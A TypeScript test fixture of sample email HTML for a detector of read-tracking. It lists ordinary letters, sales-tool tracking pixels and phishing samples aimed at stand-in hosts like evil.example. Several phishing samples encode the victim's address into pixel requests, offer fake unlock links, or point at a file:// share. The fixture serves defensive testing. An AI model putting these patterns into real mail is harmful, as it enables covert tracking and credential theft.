/**
 * What is no newsletter: letters between people, notes of programs, phishing. An image or sheet that tells of its reader is marked
 * by `data-tells`, which is taken out before anybody scans it; all else must be no finding.
 */
export interface Letter {
  name: string;
  kind: 'ordinary' | 'with-receipt' | 'phishing';
  html: string;
}

const SIGNATURE =
  '<p>Kind regards<br>Maria Lund<br><a href="https://www.{word}.example">www.{word}.example</a></p>';
const receipt = (name: string, tag: string): Letter => ({
  name,
  kind: 'with-receipt',
  html: `<p>Hello {first},</p><p>did you find the time to look at our offer?</p>${SIGNATURE}${tag}`,
});

export const LETTERS: readonly Letter[] = [
  {
    name: 'plain',
    kind: 'ordinary',
    html: '<p>Hello {first},</p><p>see you at <b>eight</b>.</p><p>Tom</p>',
  },
  {
    name: 'picture inside',
    kind: 'ordinary',
    html: `<p>As promised:</p><img src="cid:image001.png@{any.hex.8}.{any.hex.8}" width="400">${SIGNATURE}`,
  },
  {
    name: 'logo of a company',
    kind: 'ordinary',
    html: `<p>The report is attached.</p>${SIGNATURE}<img src="https://www.{word}.example/signature/logo.png" width="150" height="50" alt="{word}">`,
  },
  {
    name: 'logo without a size',
    kind: 'ordinary',
    html: `<p>The report is attached.</p>${SIGNATURE}<img src="https://www.{word}.example/assets/sig/{account.hex.16}.png">`,
  },
  {
    name: 'icons',
    kind: 'ordinary',
    html: `<p>Thanks!</p>${SIGNATURE}<a href="https://www.facebook.com/{word}"><img src="https://cdn.{word}.example/sig/fb.png" width="24" height="24"></a><a href="https://www.linkedin.com/company/{word}"><img src="https://cdn.{word}.example/sig/li.png" width="24" height="24"></a><img src="https://cdn.{word}.example/sig/dot.gif" width="1" height="8">`,
  },
  {
    name: 'signature of gmail',
    kind: 'ordinary',
    html: `<p>Thanks!</p><div class="gmail_signature"><img src="https://ci3.googleusercontent.com/mail-sig/AIorK4{account.base64.70}" width="96" height="27"></div>`,
  },
  {
    name: 'signature of drive',
    kind: 'ordinary',
    html: `<p>Thanks!</p><img src="https://docs.google.com/uc?export=download&id={account.base64.33}&revid={account.base64.48}" width="200">`,
  },
  {
    name: 'signature service of the company',
    kind: 'ordinary',
    html: `<p>Thanks!</p>${SIGNATURE}<a href="https://eur03.content.exclaimer.net/?url=https%3A%2F%2Fwww.{word}.example%2F&tenantid={account.base64.22}&templateid={account.hex.32}&excomponentid={account.base64.22}&excomponenttype=Link&signature={any.base64.120}"><img src="cid:image{any.hex.6}.PNG@{any.hex.8}.{any.hex.8}" width="400"></a>`,
  },
  {
    name: 'signature maker',
    kind: 'ordinary',
    html: `<p>Thanks!</p><table><tr><td><img src="https://d36urhup7zbd7q.cloudfront.net/{account.uuid}/logo.format_png.resize_200x.png" width="65" alt="photo"></td></tr></table>`,
  },
  {
    name: 'another signature maker',
    kind: 'ordinary',
    html: `<p>Thanks!</p><img src="https://signaturehound.com/api/v1/file/{account.lower.15}" width="120" alt="{word}"><img src="https://signaturehound.com/api/v1/png/email/default/{account.hex.6}.png" width="18" height="18">`,
  },
  {
    name: 'badge of a network',
    kind: 'ordinary',
    html: `<p>Thanks!</p><a href="https://www.linkedin.com/in/maria"><img src="https://static.licdn.com/scds/common/u/img/webpromo/btn_profile_greytxt_80x15.png" width="80" height="15" alt="View Maria's profile"></a>`,
  },
  {
    name: 'checked for viruses',
    kind: 'ordinary',
    html: `<p>Thanks!</p><div id="DAB4FAD8"><table><tr><td><a href="https://www.avast.com/sig-email?utm_medium=email&utm_source=link&utm_campaign=sig-email&utm_content=webmail"><img src="https://ipmcdn.avast.com/images/icons/icon-envelope-tick-round-orange-animated-no-repeat-v1.gif" alt="" width="46" height="29" style="width:46px;height:29px"></a></td></tr></table><a href="#DAB4FAD8" width="1" height="1"></a></div>`,
  },
  {
    name: 'gateway around links',
    kind: 'ordinary',
    html: `<p>See <a href="https://protect-eu.mimecast.com/s/{any.mixed.20}?domain={word}.example">this</a> and <a href="https://urldefense.com/v3/__https://www.{word}.example/a__;!!{any.mixed.14}!{any.base64.40}$">that</a> and <a href="https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.{word}.example%2F&data=05%7C01%7C{email.url}%7C{any.hex.32}%7C{any.hex.32}%7C0%7C0%7C6381&sdata={any.base64.43}%3D&reserved=0">it</a>.</p>`,
  },
  {
    name: 'shared documents',
    kind: 'ordinary',
    html: `<p>The <a href="https://docs.google.com/document/d/{any.base64.44}/edit?usp=sharing">minutes</a>, the <a href="https://docs.google.com/spreadsheets/d/{any.base64.44}/edit#gid=0">budget</a> and the <a href="https://www.dropbox.com/s/{any.lower.15}/plan.pdf?dl=0">plan</a>.</p>`,
  },
  {
    name: 'invitation to meet',
    kind: 'ordinary',
    html: `<p>Join: <a href="https://us02web.zoom.us/j/{any.digits.11}?pwd={any.mixed.32}.1">Zoom</a>, <a href="https://teams.microsoft.com/l/meetup-join/19%3ameeting_{any.mixed.48}%40thread.v2/0?context=%7b%22Tid%22%3a%22{any.uuid}%22%2c%22Oid%22%3a%22{any.uuid}%22%7d">Teams</a></p>`,
  },
  {
    name: 'calendar',
    kind: 'ordinary',
    html: `<table><tr><td><img src="https://www.gstatic.com/calendar/images/dynamiclogo_2020q4/calendar_12_2x.png" width="24" height="24"></td><td><a href="https://calendar.google.com/calendar/event?action=RESPOND&eid={any.base64.60}&rst=1&tok={any.base64.40}&ctz=Europe%2FBerlin&hl=de&es=0">Yes</a> <a href="https://calendar.google.com/calendar/event?action=RESPOND&eid={any.base64.60}&rst=2&tok={any.base64.40}">No</a></td></tr></table>`,
  },
  {
    name: 'emoji',
    kind: 'ordinary',
    html: `<p>Great <img src="https://fonts.gstatic.com/s/e/notoemoji/15.0/1f600/72.png" alt="😀" width="24" height="24"> <img src="https://mail.google.com/mail/e/1f44d" alt="👍"></p>`,
  },
  {
    name: 'stationery',
    kind: 'ordinary',
    html: `<body background="http://www2.{word}.example/stationery/bg_{any.digits.4}.gif"><p>Happy birthday!</p><img src="http://www2.{word}.example/stationery/flower.gif"><img src="http://www2.{word}.example/stationery/pixel.gif" width="1" height="1"></body>`,
  },
  {
    name: 'line of a webmail',
    kind: 'ordinary',
    html: `<p>Bye</p><hr><a href="http://mail.{word}.example/?promo=tagline"><img src="http://graphics.{word}.example/tag_{any.digits.4}.gif" border="0"></a>`,
  },
  {
    name: 'mailing list',
    kind: 'ordinary',
    html: `<p>I think 2.4 does it.</p>_______________________________________________<br>users mailing list<br><a href="https://lists.{word}.example/mailman/listinfo/users">https://lists.{word}.example/mailman/listinfo/users</a>`,
  },
  {
    name: 'group',
    kind: 'ordinary',
    html: `<p>+1</p>-- <br>You received this message because you are subscribed to the group.<br>To unsubscribe <a href="https://groups.google.com/d/msgid/{word}/CAB{any.base64.50}%40mail.gmail.com?utm_medium=email&utm_source=footer">see</a>. <a href="https://groups.google.com/d/optout">opt out</a>`,
  },
  {
    name: 'forge',
    kind: 'ordinary',
    html: `<img alt="GitLab" src="https://gitlab.com/assets/mailers/gitlab_logo-{any.hex.64}.png" height="50"><p><a href="https://gitlab.com/{word}/app/-/issues/12#note_{any.digits.9}">commented</a></p><p>You're receiving this email because of your account. <a href="https://gitlab.com/-/sent_notifications/{any.hex.32}/unsubscribe">Unsubscribe</a></p>`,
  },
  {
    name: 'issues',
    kind: 'ordinary',
    html: `<table><tr><td><img src="https://{word}.atlassian.net/secure/useravatar?size=small&avatarId={any.digits.5}" width="24"><img src="https://{word}.atlassian.net/secure/viewavatar?size=medium&avatarId={any.digits.5}&avatarType=issuetype" width="16"></td></tr></table><a href="https://{word}.atlassian.net/browse/APP-12">APP-12</a>`,
  },
  {
    name: 'own issues',
    kind: 'ordinary',
    html: `<img src="https://jira.{word}.example/secure/useravatar?ownerId=JIRAUSER{any.digits.5}&avatarId={any.digits.5}" width="24"><p>Status: open</p>`,
  },
  {
    name: 'receipt of a shop',
    kind: 'ordinary',
    html: `<img src="https://www.{word}.example/mail/logo.png" width="200" alt="{word}"><p>Order 100{any.digits.6}</p><table><tr><td><img src="https://www.{word}.example/media/catalog/product/{any.hex.1}/{any.hex.1}/sku{any.digits.6}_1.jpg" width="80"></td></tr><tr><td><img src="https://www.{word}.example/mail/spacer.gif" width="1" height="10"></td></tr></table><a href="https://www.{word}.example/sales/order/view/order_id/{any.digits.6}/">Your order</a>`,
  },
  {
    name: 'notice of a bank',
    kind: 'ordinary',
    html: `<table><tr><td><img src="https://www.{word}-bank.example/images/email/header.gif" width="600" height="80"></td></tr><tr><td><img src="https://www.{word}-bank.example/images/email/clear.gif" width="10" height="1"><img src="https://www.{word}-bank.example/images/email/clear.gif" width="1" height="20"></td></tr></table><p>Your statement is ready.</p>`,
  },
  {
    name: 'password',
    kind: 'ordinary',
    html: `<img src="https://www.{word}.example/assets/logo-{any.hex.20}.png" width="120"><p><a href="https://www.{word}.example/password/reset/{any.hex.64}?email={email.url}">Set a new password</a></p>`,
  },
  {
    name: 'code',
    kind: 'ordinary',
    html: `<p>Your code is <b>{any.digits.6}</b></p><img src="https://cdn.{word}.example/email/{account.hex.32}/logo@2x.png" width="80">`,
  },
  {
    name: 'parcel',
    kind: 'ordinary',
    html: `<img src="https://www.{word}.example/email/truck.gif" width="60"><p><a href="https://www.{word}.example/track?id={any.upper.14}">{any.upper.14}</a></p><img src="https://www.{word}.example/email/barcode/line.gif" width="400" height="1">`,
  },
  {
    name: 'answer in a webmail',
    kind: 'ordinary',
    html: `<p>See below.</p><blockquote><img src="https://attachments.office.net/owa/maria%40{word}.example/service.svc/s/GetAttachmentThumbnail?id=AAMk{any.base64.80}&thumbnailType=2&token=eyJhbGci{any.base64.120}&X-OWA-CANARY={any.base64.40}.&owa=outlook.office.com&isDocumentPreview=True" width="300"></blockquote>`,
  },
  {
    name: 'from word',
    kind: 'ordinary',
    html: `<!--[if gte vml 1]><v:shape id="p" style="width:90pt"><v:imagedata src="cid:image001.jpg@{any.hex.8}" o:title="logo"/></v:shape><![endif]--><p class="MsoNormal">Hello</p>`,
  },
  {
    name: 'clipping',
    kind: 'ordinary',
    html: `<p>Read this:</p><h2><a href="https://www.{word}.example/2023/05/12/story">A story</a></h2><img src="https://static01.{word}.example/images/2023/05/12/12story/12story-articleLarge-v2.jpg?quality=75&auto=webp&disable=upscale"><img src="https://www.{word}.example/assets/images/1x1.gif" width="1" height="1">`,
  },
  {
    name: 'helpdesk',
    kind: 'ordinary',
    html: `<p>##- Please type your reply above this line -##</p><p>Solved.</p><img src="https://secure.gravatar.com/avatar/{any.hex.32}?size=40&default=identicon" width="40" height="40"><img src="https://{word}.zendesk.com/attachments/token/{any.mixed.25}/?name=image001.png">`,
  },
  {
    name: 'signed by a company with a banner',
    kind: 'ordinary',
    html: `<p>Thanks!</p>${SIGNATURE}<a href="https://www.{word}.example/fair"><img src="https://www.{word}.example/banner/fair-2023.jpg?c={campaign.digits.4}" width="500" alt="Meet us"></a>`,
  },

  receipt(
    'mailtrack',
    '<img data-tells width="0" height="0" class="mailtrack-img" alt="" style="display:flex" src="https://mailtrack.io/trace/mail/{reader.hex.40}.png?u={account.digits.7}">',
  ),
  receipt(
    'streak',
    '<img data-tells alt="" style="width:0px;max-height:0px;overflow:hidden" src="https://mailfoogae.appspot.com/t?sender={account.base64.30}&type=zerocontent&guid={reader.uuid}">',
  ),
  receipt(
    'yesware',
    '<img data-tells src="https://t.yesware.com/t/{reader.hex.40}/{reader.hex.32}/spacer.gif" style="border:0;width:0;height:0;overflow:hidden" width="0" height="0">',
  ),
  receipt(
    'hubspot sales',
    '<img data-tells src="https://t.sidekickopen45.com/Cto/5G+{reader.digits.3}/{account.hex.8}/R5{reader.base64.120}" alt="" style="display:none!important" height="1" width="1">',
  ),
  receipt('superhuman', '<img data-tells src="https://r.superhuman.com/{reader.base64.180}.gif">'),
  receipt(
    'mixmax',
    '<img data-tells src="https://track.mixmax.com/api/track/v2/{reader.mixed.17}/{account.base64.40}/{account.base64.40}/?sc=false" width="1" height="1">',
  ),
  receipt(
    'outreach',
    '<img data-tells src="https://app.outreach.io/api/mailings/opened/{reader.base64.64}/v0.gif" width="1" height="1">',
  ),
  receipt(
    'salesloft',
    '<img data-tells src="https://tracking.salesloft.com/email_trackers/{reader.uuid}/open.gif" width="1" height="1">',
  ),
  receipt(
    'boomerang',
    '<img data-tells src="https://mailstat.us/tr/t/{reader.lower.20}/1/s.png" width="0" height="0">',
  ),
  receipt(
    'front',
    '<img data-tells src="https://web.frontapp.com/api/1/noauth/companies/{account.lower.8}/seen/msg_{reader.lower.8}/0/{reader.hex.8}.gif" style="width:1px;height:1px">',
  ),
  receipt(
    'mailbutler',
    '<img data-tells src="https://bowtie.mailbutler.io/tracking/hit/{reader.uuid}/{reader.uuid.b}" width="1" height="1">',
  ),
  receipt(
    'gmelius',
    '<img data-tells alt="" src="https://gml.email/o/{reader.base64.60}" style="display:none" width="1" height="1">',
  ),
  receipt(
    'bananatag',
    '<img data-tells src="https://bl-1.com/p/{reader.base64.8}?u={account.base64.8}" width="1" height="1">',
  ),
  receipt(
    'unknown add-on',
    '<img data-tells src="https://px.letterbird.example/{reader.mixed.22}" width="1" height="1">',
  ),
  receipt(
    'unknown add-on without a size',
    '<img data-tells src="https://api.letterbird.example/v1/track/{reader.uuid}.png">',
  ),
  receipt(
    'add-on with the address in it',
    '<img data-tells src="https://letterbird.example/seen?to={email.url}&m={campaign.digits.6}" style="display:none">',
  ),
  receipt(
    'signature that counts',
    '<img data-tells src="https://tracy.srv.wisestamp.com/px/wsimage/sign/{reader.hex.32}.png" width="1" height="1">',
  ),
  receipt(
    'own program',
    '<img data-tells src="https://crm.{word}.example/mail/opened.php?id={reader.digits.6}&k={reader.hex.8}" width="1" height="1">',
  ),
  receipt(
    'own program without a size',
    '<img data-tells src="https://crm.{word}.example/t.php?m={reader.uuid}">',
  ),

  {
    name: 'logo of a bank',
    kind: 'phishing',
    html: '<img src="https://www.realbank.example/static/img/logo-{any.hex.20}.svg" width="180" alt="Bank"><p>Your account is locked.</p><a href="http://{any.lower.9}.evil.example/login.php?token={any.hex.32}">Unlock</a>',
  },
  {
    name: 'logo of a network',
    kind: 'phishing',
    html: '<img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_{any.hex.32}.svg" width="108"><p>{email} has 4 unread messages.</p><a href="https://evil.example/#{email}">Read</a>',
  },
  {
    name: 'pictures kept elsewhere',
    kind: 'phishing',
    html: '<a href="http://evil.example/{any.mixed.8}"><img src="https://i.imgur.com/{any.mixed.7}.png" width="600"></a><img src="https://i.ibb.co/{any.mixed.7}/parcel.jpg" width="300">',
  },
  {
    name: 'pictures on a hacked host',
    kind: 'phishing',
    html: '<a href="http://hacked.example/wp-includes/js/{any.hex.8}/"><img src="http://hacked.example/wp-includes/js/head.jpg"><br><img src="http://hacked.example/wp-includes/js/foot.jpg"></a>',
  },
  {
    name: 'victim in the query',
    kind: 'phishing',
    html: '<p>Your mailbox is full.</p><img data-tells="personal-image" src="https://evil.example/img/banner.png?u={email.url}" width="600" height="90">',
  },
  {
    name: 'victim in base64',
    kind: 'phishing',
    html: '<p>Your mailbox is full.</p><img data-tells src="https://evil.example/t/{email.base64}.gif" width="1" height="1"><a href="https://evil.example/l/{email.base64}">Clean up</a>',
  },
  {
    name: 'victim in base64, seen',
    kind: 'phishing',
    html: '<p>Your parcel waits.</p><img data-tells="personal-image" src="https://evil.example/p/{email.base64}/parcel.jpg" width="500">',
  },
  {
    name: 'victim as a hash',
    kind: 'phishing',
    html: '<p>You have won.</p><img data-tells src="https://evil.example/o/{email.md5}" width="0" height="0">',
  },
  {
    name: 'number of the victim',
    kind: 'phishing',
    html: '<p>You have won.</p><img data-tells src="http://evil.example/track/open.php?id={reader.digits.7}" width="1" height="1">',
  },
  {
    name: 'rented program',
    kind: 'phishing',
    html: '<p>You have won.</p><a href="http://evil.example/link.php?M={reader.digits.6}&N={campaign.digits.3}&L=12&F=H">Claim</a><img data-tells src="http://evil.example/open.php?M={reader.digits.6}&L={campaign.digits.2}&N={campaign.digits.3}&F=H&image=.jpg" height="1" width="10">',
  },
  {
    name: 'token alone',
    kind: 'phishing',
    html: '<p>You have won.</p><a href="http://evil.example/{reader.base64.60}">Claim</a><img data-tells src="http://evil.example/{reader.base64.60.b}">',
  },
  {
    name: 'token in a host',
    kind: 'phishing',
    html: '<p>You have won.</p><a href="http://{reader.lower.20}.evil.example/">Claim</a><img data-tells src="http://{reader.lower.20}.evil.example/i.gif" width="1" height="1">',
  },
  {
    name: 'share of a network',
    kind: 'phishing',
    html: '<p>Invoice</p><img data-tells src="file://evil.example/share/{reader.hex.8}.png" width="1" height="1">',
  },
];
